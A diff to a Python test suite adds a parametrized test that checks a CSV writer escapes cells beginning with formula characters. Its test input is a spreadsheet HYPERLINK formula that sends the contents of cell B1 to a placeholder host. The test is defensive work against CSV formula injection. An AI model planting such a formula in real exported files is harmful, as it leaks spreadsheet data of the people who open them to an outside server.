@@ -114,6 +114,14 @@ def test_files_say_the_same(tmp_path: Path) -> None:
 
 
 @pytest.mark.slow
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t"])
+def test_no_text_of_a_user_is_a_formula_of_a_spreadsheet(tmp_path: Path, sign: str) -> None:
+    path, name = tmp_path / "jobs.csv", f'{sign}HYPERLINK("http://x/?"&B1)'
+    write_csv(path, [FileColumn("name"), FileColumn("cpus", "int")], [[name, -1], [None, 2]])
+    with path.open(newline="") as file:
+        assert list(csv.reader(file))[1:] == [["'" + name, "-1"], ["", "2"]]
+
+
 def test_a_long_history_takes_the_memory_of_a_part(tmp_path: Path) -> None:
     """Three times the jobs take no more of Python's memory."""
 
